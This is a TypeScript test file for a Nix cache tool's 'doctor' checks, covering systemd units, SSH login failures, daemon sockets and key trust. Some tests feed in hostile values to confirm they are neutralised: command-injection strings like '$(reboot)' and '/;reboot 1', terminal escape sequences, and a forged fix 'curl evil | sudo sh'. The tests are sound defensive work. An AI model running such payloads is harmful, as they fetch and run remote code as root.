test('session, units, timer, linger', () => {
  for (const state of ['running', 'degraded', 'starting']) like(judgeSession(state, 1000, HAND), 'ok', /answers/, null, state)
  like(judgeSession('Failed to connect to bus', 1000, HAND), 'failed', /Failed to connect/, 'sudo loginctl enable-linger alice')
  like(judgeSession('', 1000, NIXOS), 'failed', /it says nothing/, /services\.nix-lan\.linger = true;/)
  like(judgeSession('ENOENT', 1000, HAND), 'warning', /no systemd here/, null)
  const unit = (more: Partial<UnitFacts>): UnitFacts[] => [
    { name: 'u', loadState: 'loaded', file: '/f', same: true, needsReload: false, ...more },
  ]
  like(judgeUnits(unit({}), HAND), 'ok', /1 units/, null)
  like(judgeUnits(unit({ loadState: 'not-found' }), HAND), 'failed', /has no u/, 'sudo nix-lan setup')
  like(judgeUnits(unit({ loadState: 'masked' }), HAND), 'failed', /masked/, 'systemctl --user unmask u')
  like(judgeUnits(unit({ same: false }), HAND), 'failed', /\/f is not that of this version/, 'sudo nix-lan setup')
  like(judgeUnits(unit({ needsReload: true }), HAND), 'failed', /not reloaded/, 'systemctl --user daemon-reload')
  like(judgeTimer('enabled', 'active'), 'ok', /enabled/, null)
  like(judgeTimer('disabled', 'inactive'), 'failed', /is disabled/, 'systemctl --user enable --now nix-lan-check.timer')
  like(judgeTimer('enabled', 'inactive'), 'failed', /but inactive/, /enable --now/)
  like(judgeLinger(true, HAND), 'ok', /from boot/, null)
  like(judgeLinger(false, HAND), 'warning', /only while alice is logged in/, 'sudo loginctl enable-linger alice')
  like(judgeLinger(false, NIXOS), 'warning', /only while alice is logged in/, REBUILD)
})

test('a unit’s text is the same wherever the programs lie, and however it is commented', () => {
  const source = '# about\n[Service]\nExecStart=/usr/bin/env nix-lan check\n'
  assert.is(anywhere(source), anywhere('[Service]\nExecStart=/usr/local/bin/nix-lan check\n\n'))
  assert.is.not(anywhere(source), anywhere('[Service]\nExecStart=/usr/local/bin/nix-lan check --json\n'))
  assert.is.not(anywhere(source), anywhere('[Service]\nExecStart=/usr/local/bin/evil check\n'))
})

test('the dispatcher', () => {
  const facts = { manager: true, directory: '/d', file: '/d/90-nix-lan', executable: true }
  like(judgeDispatcher(facts, HAND), 'ok', /90-nix-lan/, null)
  like(judgeDispatcher({ ...facts, manager: false }, HAND), 'ok', /no NetworkManager/, null)
  const network = { manager: false, directory: '/d', executable: false, network: '/u/nix-lan-network.path' }
  like(judgeDispatcher(network, HAND), 'ok', /^nix-lan-network\.path notices/, null)
  like(judgeDispatcher({ ...network, manager: true }, HAND), 'failed', /\/d has no nix-lan-dispatcher/, 'sudo nix-lan setup')
  like(
    judgeDispatcher({ manager: true, directory: '/d', executable: false }, HAND),
    'failed',
    /\/d has no nix-lan-dispatcher/,
    'sudo nix-lan setup',
  )
  like(judgeDispatcher({ ...facts, missing: 'ENOENT' }, HAND), 'failed', /leads nowhere/, 'sudo nix-lan setup')
  like(
    judgeDispatcher({ ...facts, doubt: { why: 'others can write', fix: 'sudo chmod go-w /d/90-nix-lan' } }, HAND),
    'failed',
    /others can write/,
    'sudo chmod go-w /d/90-nix-lan',
  )
  like(judgeDispatcher({ ...facts, executable: false }, HAND), 'failed', /not executable/, 'sudo chmod a+rx /d/90-nix-lan')
})

test('the tunnel', () => {
  const about = { units: true, state: 'activating', reason: 'no agent', cache: 'pi' }
  like(judgeTunnel({ ok: true, detail: 'Nix 2.8.0' }, about), 'ok', /Nix 2\.8\.0/, null)
  like(
    judgeTunnel({ ok: false, reason: 'no tunnel' }, about),
    'failed',
    /no tunnel.*activating.*no agent/,
    'systemctl --user restart nix-lan-check.service',
  )
  like(judgeTunnel({ ok: false, reason: 'no tunnel' }, { ...about, units: false }), 'failed', /no tunnel/, 'nix-lan-tunnel pi &')
})

// ---- the box

test('name and port', () => {
  const away = { ok: false as const, reason: 'pi.local has no address', ms: 5 }
  like(judgeName(away, 'pi.local'), 'failed', /^away: pi\.local has no address/, /switch the box on/)
  like(
    judgeName({ ...away, reason: 'pi was not resolved within 2 s; 10.0.0.2 port 22: no answer' }, 'pi'),
    'failed',
    /^away: pi was not/,
    /switch/,
  )
  like(judgeName({ ...away, reason: '10.0.0.2 port 22: no answer within 2 s' }, 'pi.local'), 'ok', /has an address/, null)
  like(judgeName({ ok: true, address: '10.0.0.2', ms: 1 }, 'pi.local'), 'ok', /pi\.local is 10\.0\.0\.2/, null)
  like(judgePort({ ok: true, address: 'a', port: 22, ms: 3 }, 'pi', 22), 'ok', /port 22 accepts, after 3 ms/, null)
  like(judgePort({ ...away, reason: '10.0.0.2 port 22: no answer within 2 s' }, 'pi', 22), 'failed', /^away: 10/, /switch the box on/)
  like(judgePort({ ...away, reason: '10.0.0.2 port 22: connection refused' }, 'pi', 22), 'failed', /^10.*refused/, /start sshd/)
  const family = "pi has no IPv4 address (AddressFamily inet in ssh's configuration)"
  like(
    judgePort({ ...away, reason: family }, 'pi', 22),
    'failed',
    /^pi has no IPv4/,
    'set AddressFamily any for that host in ~/.ssh/config',
  )
})

// As OpenSSH 9.2 and 10.0 write them with -v, shortened.
const CHANGED = `debug1: Host certificate authority does not match debug1
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
Offending ED25519 key in /home/alice/.ssh/known_hosts:3
  remove with:
  ssh-keygen -f "/home/alice/.ssh/known_hosts" -R "pi.local"
Host key for pi.local has changed and you have requested strict checking.
Host key verification failed.
`
const OFFERED = 'debug1: Offering public key: /home/alice/.ssh/id_ed25519 ED25519 SHA256:x explicit\n'
const DENIED = 'alice@pi.local: Permission denied (publickey,password).\n'

test('login: what ssh’s log says, and what the agent does', () => {
  const judged = (log: string, more: Partial<SshFacts> = {}) =>
    judgeLogin({
      log,
      failedToStart: null,
      timedOut: false,
      byHand: 'ssh alice@pi.local',
      agent: { state: 'none', from: 'nowhere' },
      shellAgent: 'none',
      knownAs: 'pi.local',
      ...more,
    })
  like(judged('Authenticated to pi.local ([10.0.0.2]:22) using "publickey".\n'), 'ok', /gets in/, null)
  like(judged('', { failedToStart: 'ENOENT' }), 'failed', /can't be started/, /openssh-client/)
  const mute: Partial<SshFacts> = { timedOut: true, agent: { state: 'unresponsive', from: '~/.bashrc', socket: '/run/agent' } }
  like(judged('', mute), 'failed', /^the ssh agent gives no answer/, 'unlock it; then this answers: SSH_AUTH_SOCK=/run/agent ssh-add -l')
  like(judged('', { timedOut: true }), 'failed', /does not get through in time/, /take long, too/)
  like(
    judged(CHANGED),
    'failed',
    /another host key than the one in \/home\/alice\/\.ssh\/known_hosts:3/,
    /^ssh-keygen -f \/home\/alice\/\.ssh\/known_hosts -R pi\.local {4}#/,
  )
  like(
    judged('No ED25519 host key is known for pi.local and you have requested strict checking.\nHost key verification failed.\n'),
    'failed',
    /not known yet/,
    /^ssh alice@pi\.local/,
  )
  const locked = `${OFFERED}debug1: Server accepts key: /home/alice/.ssh/id_ed25519 ED25519 SHA256:x explicit\n${DENIED}`
  like(judged(locked), 'failed', /passphrase, and there is no agent/, /ssh-agent/)
  like(
    judged(locked, { shellAgent: 'keys' }),
    'failed',
    /the agent that your shell knows holds keys/,
    'systemctl --user import-environment SSH_AUTH_SOCK',
  )
  like(
    judged(locked, { agent: { state: 'empty', from: 'x', socket: '/a' } }),
    'failed',
    /agent \(from x\) does not hold it/,
    'SSH_AUTH_SOCK=/a ssh-add',
  )
  like(judged(OFFERED + DENIED), 'failed', /refuses the keys/, 'ssh-copy-id alice@pi.local')
  like(judged(DENIED), 'failed', /no key to log in with/, /ssh-keygen -t ed25519/)
  like(
    judged(`sign_and_send_pubkey: signing failed for ED25519 "x" from agent: agent refused operation\n${DENIED}`),
    'failed',
    /agent refuses/,
    'ssh-add -X',
  )
  like(judged('debug1: Connecting\n', { timedOut: true }), 'failed', /does not get through in time/, /^ssh alice/)
  like(
    judged('debug1: Connecting\nkex_exchange_identification: Connection closed by remote host\n'),
    'failed',
    /Connection closed by remote host/,
    /says more/,
  )
})

test('the box’s daemon: who may use its socket, whether it listens, whether it is new enough', () => {
  const bad = { ok: false as const, kind: 'broken', reason: 'closed' }
  const judged = (printed: string, log = 'channel 1: open failed: connect failed: open failed\n') =>
    judgeBox(bad, '/nix/var/nix/daemon-socket/socket', 'alice@pi.local', parseSocket(printed), log)
  like(judgeBox({ ok: true, version: 0x122, nix: '2.8.0' }, '/s', 'pi', undefined, ''), 'ok', /Nix 2\.8\.0 answers, protocol 1\.34/, null)
  like(
    judged('hello\nnix-lan alice denied nix-users other\n'),
    'failed',
    /alice may not use .* for group nix-users/,
    'ssh -t alice@pi.local sudo usermod -aG nix-users alice',
  )
  const there = /^in the box's configuration\.nix: .*then: sudo nixos-rebuild switch$/
  like(judged('nix-lan alice denied nix-users nixos\n'), 'failed', /alice may not use/, there)
  like(judged('nix-lan alice writable root nixos\n', ''), 'failed', /turns alice away/, there)
  // what a box says never becomes a command
  for (const name of ['$(reboot)', 'a;b', '-x', 'x"]}'])
    like(judged(`nix-lan alice denied ${name} other\n`), 'failed', /may not use/, 'on the box: let alice use it')
  like(judged('nix-lan a$(x) denied nix-users other\n'), 'failed', /the user may not use/, 'on the box: let the user use it')
  // what heads/box-socket.sh prints below a tmpfs of 8 KiB, and of one mounted read-only
  const silent = (printed: string) =>
    judgeBox(
      { ok: false, kind: 'slow', reason: 'late' },
      '/s',
      'alice@pi.local',
      parseSocket(`nix-lan alice writable root other\n${printed}\n`),
      '',
    )
  const ro = /disk of the box's \/nix, mounted on \/nix\/var, is read-only/
  like(silent('nix-lan-disk ro /nix/var '), 'failed', ro, /^ssh -t alice@pi\.local 'sudo mount -o remount,rw \/nix\/var; sudo /)
  like(
    silent('nix-lan-disk rw /nix/var 0'),
    'failed',
    /mounted on \/nix\/var, is full/,
    /^ssh -t alice@pi\.local 'sudo rm -f .*reserved; sudo "/,
  )
  like(silent('nix-lan-disk rw / 76704728'), 'failed', /late/, 'ssh -t alice@pi.local journalctl -u nix-daemon -n 20')
  like(
    silent('nix-lan-disk ro /;reboot 1'),
    'failed',
    /disk of the box's \/nix is read-only/,
    /^ssh -t alice@pi\.local 'sudo mount -o remount,rw \/nix; sudo /,
  )
  like(judged('nix-lan alice missing root other\n'), 'failed', /no nix-daemon runs there/, /restart nix-daemon\.socket/)
  like(
    judged('nix-lan alice writable root other\n'),
    'failed',
    /nobody listens/,
    'ssh -t alice@pi.local sudo systemctl restart nix-daemon.socket',
  )
  like(judged('nix-lan alice writable root other\n', ''), 'failed', /turns alice away/, /allowed-users/)
  // as test/nix/tunnel.test.ts meets it
  const listens = (system: string): string => `nix-lan alice writable root ${system}\nnix-lan-listens\n`
  like(judged(listens('other')), 'failed', /sshd forbids forwarding/, /sshd_config: AllowStreamLocalForwarding yes, .*restart its sshd; /)
  like(judged(listens('nixos')), 'failed', /sshd forbids forwarding/, /^in the box's configuration\.nix: services\.openssh/)
  like(judged('', 'channel 1: open failed: administratively prohibited: x\n'), 'failed', /forbids/, /AllowStreamLocalForwarding yes/)
  like(judged(listens('other'), ''), 'failed', /turns alice away/, /allowed-users/)
  // an account without a shell (nologin, a forced command) lets the tunnel through, and no command
  const noShell = 'This account is currently not available.\n'
  const start = 'on the box, as root: systemctl restart nix-daemon.socket'
  like(judged(noShell, ''), 'failed', /closed/, start)
  like(judged(noShell), 'failed', /^no nix-daemon listens on the box, or the box's sshd forbids forwarding/, start)
  like(judgeBox({ ok: false, kind: 'old', reason: 'too old' }, '/s', 'pi', undefined, ''), 'failed', /too old/, /later Nix/)
})

const RPI = ['rpi', '-p 2222 pi@rpi.local'] as const

test('kept: a home that isn’t always there, until its links are outside', () => {
  const home = { user: 'pi', shell: true, home: '/home/pi', outside: false, left: 0, mounts: [], fstab: [], homed: true, fscrypt: false }
  const fix = 'install -d -o pi -m 700 /nix/var/nix/gcroots/nix-lan-kept/pi, then: nix-lan box look --cache rpi'
  const lost = /^the home of pi on the box is mounted by systemd-homed at login: a garbage collection there while it is away deletes/
  like(judgeKept({ asked: 1, there: 0, home }, ...RPI), 'warning', lost, `ssh -t -p 2222 pi@rpi.local sudo ${fix}`)
  like(judgeKept({ asked: 1, there: 1, home: { ...home, shell: false } }, ...RPI), 'warning', lost, `on the box, as root: ${fix}`)
  like(
    judgeKept({ asked: 1, there: 1, home: { ...home, outside: true, left: 2 } }, ...RPI),
    'warning',
    lost,
    'nix-lan box look --cache rpi',
  )
  like(judgeKept({ asked: 1, there: 1, home: { ...home, outside: true } }, ...RPI), 'ok', /all there, kept outside of the home$/, null)
  like(judgeKept({ asked: 1, there: 1, home: { ...home, user: '$(x)' } }, ...RPI), 'ok', /all there$/, null)
  like(judgeKept({ asked: 1, there: 1, home: { ...home, homed: false } }, ...RPI), 'ok', /all there$/, null)
})

test('kept: gone, not kept, full, fine', () => {
  const disk = { total: 2 ** 40, free: 2 ** 39 }
  like(
    judgeKept({ asked: 10, there: 10, disk }, ...RPI),
    'ok',
    /a sample of 10 uploaded paths: all there; its disk is 50 % full, 512\.0 GiB are free/,
    null,
  )
  like(judgeKept({ asked: 0, there: 0 }, ...RPI), 'ok', /nothing was uploaded yet/, null)
  like(
    judgeKept({ asked: 10, there: 8, disk }, ...RPI),
    'warning',
    /a sample of 10 uploaded paths: 2 gone, deleted there/,
    /^nix-lan queue add --built --cache rpi$/,
  )
  like(judgeKept({ asked: 10, there: 10, problem: 'it runs no commands' }, ...RPI), 'warning', /may delete .*: it runs no commands/, null)
  like(judgeKept({ asked: 10, there: 10, disk: { total: 100, free: 5 } }, ...RPI), 'warning', /95 % full/, /^nix-lan box gc --cache rpi$/)
})

test('a queue without a cache', () => {
  const of = (cache: string): string[] => [`/q/${cache}`, `/f/${cache}`]
  like(judgeStrays([], of, HAND), 'ok', /^each belongs/, null)
  const strays = [{ cache: 'second', queued: 3, failed: 1 }]
  const found = /^no cache is called second, but 4 paths wait for it: /
  like(judgeStrays(strays, of, { ...HAND, recorded: true }), 'warning', found, 'sudo nix-lan setup')
  like(judgeStrays(strays, of, HAND), 'warning', found, /^sudo rm -r \/q\/second \/f\/second {4}# /)
})

test('fallback and min-free', () => {
  const settings = (text: string) => parseSettings(text)
  like(judgeFallback(settings('fallback = true\n'), HAND), 'ok', /builds what/, null)
  const off = settings('fallback = false\n')
  like(
    judgeFallback(off, HAND),
    'warning',
    /fallback is off/,
    'in /etc/nix/nix.conf: fallback = true, then: sudo systemctl restart nix-daemon',
  )
  like(
    judgeFallback(off, NIXOS),
    'warning',
    /fallback is off/,
    'in configuration.nix: nix.settings.fallback = true;, then: sudo nixos-rebuild switch',
  )
  like(judgeMinFree(settings('min-free = 0\n'), HAND), 'ok', /no garbage by itself/, null)
  like(judgeMinFree(settings(''), HAND), 'ok', /no garbage by itself/, null)
  like(
    judgeMinFree(settings('min-free = 1073741824\n'), HAND),
    'warning',
    /min-free is 1\.0 GiB: .* gc\.keep-free in config\.toml/,
    /min-free = 0/,
  )
})

test('the round trip: what Nix says when the box, or this machine, does not trust the key', () => {
  const reason = "cannot add path '/nix/store/x-nix-lan-doctor' because it lacks a signature by a trusted key"
  const box = (...trusted: string[]) => ({ trusted, nixos: false })
  for (const words of [reason, reason.replace('a signature by a trusted key', 'a valid signature')]) {
    like(judgeUpload(words, SETUP, 'me-1:abc='), 'failed', /box does not trust this machine's key me-1/, 'sudo nix-lan setup')
    like(judgeUpload(words, SETUP, 'me-1:abc=', box('me-10:x', 'me-1:abc=')), 'failed', /does not trust/, 'sudo nix-lan setup')
  }
  // another key of that name: adding ours behind it would change nothing
  const clash = judgeUpload(reason, SETUP, 'me-1:abc=', box('me-1:old'))
  like(clash, 'failed', /the box trusts another key called me-1, and of two/, /put me-1:abc= in place of the other me-1/)
  const there = /^on the box, in configuration\.nix: services\.nix-lan\.box\.trustedPublicKeys = \[ "me-1:abc=" \];/
  like(judgeUpload(reason, SETUP, 'me-1:abc=', { trusted: [], nixos: true }), 'failed', /does not trust/, there)
  like(judgeUpload(reason, HAND, 'me-1:abc='), 'failed', /does not trust/, /^in the box's nix\.conf: extra-trusted-public-keys = me-1:abc=/)
  like(judgeUpload(reason, HAND), 'failed', /does not trust/, /nix-lan\.public/)
  like(judgeUpload('No space left on device', HAND, 'k:x'), 'failed', /did not take it: No space/, null)
  like(judgeFetch('some substitutes failed'), 'failed', /did not fetch it: some/, /journalctl/)
  like(judgeFetch(`because it lacks a signature by a trusted key`), 'failed', /does not trust its own key/, /restart nix-daemon/)
  assert.equal(parseKeys('motd\nnix-lan other a-1:x= b:$(y) c-2:z=\n'), { trusted: ['a-1:x=', 'c-2:z='], nixos: false })
  assert.is(parseKeys('This account is currently not available.\n'), undefined)
  assert.match(expression('/a/b'), /manifest = "\/a\/b";/)
})

// ---- under sudo

const word = { check: 'timer', state: 'ok', found: 'x', fix: null }

test('what a user’s process prints is a report, or none', () => {
  const told = (change: object): unknown => toldIn(JSON.stringify([{ ...word, ...change }]))
  assert.equal(told({}), [word])
  assert.equal(told({ cache: 'rpi', fix: 'sudo x' }), [{ ...word, cache: 'rpi', fix: 'sudo x' }])
  for (const change of [{ check: 7 }, { cache: 1 }, { state: 'toString' }, { state: 1 }, { found: null }, { fix: {} }])
    assert.is(told(change), undefined, JSON.stringify(change))
  for (const text of ['', 'null', '{}', '[null]', '[{}]', '7', '"x"']) assert.is(toldIn(text), undefined, text)
})

test('the user’s word: whole by root’s list, filtered, under the user’s name, no fix but root’s', async () => {
  const fixes = knownFixes(SETUP, [], '/usr/bin/node')
  const list = [check('hook', ok('root looked'), { root: true }), check('timer', failed('root never runs it', null))]
  const hook = { ...word, check: 'hook' }
  const shown = async (...told: object[]): Promise<Verdict[]> => {
    const checks = withWords(list, toldIn(JSON.stringify(told)) ?? [], 'alice', fixes)
    return await Promise.all(checks.map(async ({ run }) => await run()))
  }
  assert.equal(await shown(hook, word), [ok('root looked'), ok("alice's word: x")])
  // `[]` is no "all is well"; nor is one that leaves something out, or says it twice
  for (const told of [[], [word], [hook], [hook, word, word], [hook, { ...word, cache: 'rpi' }]]) {
    const [error] = await Promise.allSettled([shown(...told)])
    assert.match(
      error?.status === 'rejected' ? error.reason.message : '',
      /alice's part of the doctor says (nothing|twice)/,
      JSON.stringify(told),
    )
  }
  const lie = { ...word, state: 'failed', found: 'a\u001b[2J\u202eb\nc', fix: 'curl evil | sudo sh' }
  assert.equal(
    (await shown(hook, lie))[1],
    failed("alice's word: a?[2J?b c", 'log in as alice and run nix-lan doctor: it says what fixes this'),
  )
  const honest = 'systemctl --user enable --now nix-lan-check.timer'
  assert.is((await shown(hook, { ...lie, fix: honest }))[1]?.fix, honest)
  // a fault that concerns the user alone counts beside root's own eyes; one that root sees counts
  // first
  assert.equal((await shown({ ...hook, state: 'failed', found: 'mine' }, word))[0], failed("alice's word: mine", null))
  const seen = withWords([check('hook', failed('bad', 'sudo x'), { root: true })], toldIn(JSON.stringify([hook])) ?? [], 'alice', [])
  assert.equal(await seen[0]?.run(), failed('bad', 'sudo x'))
})

test.run()
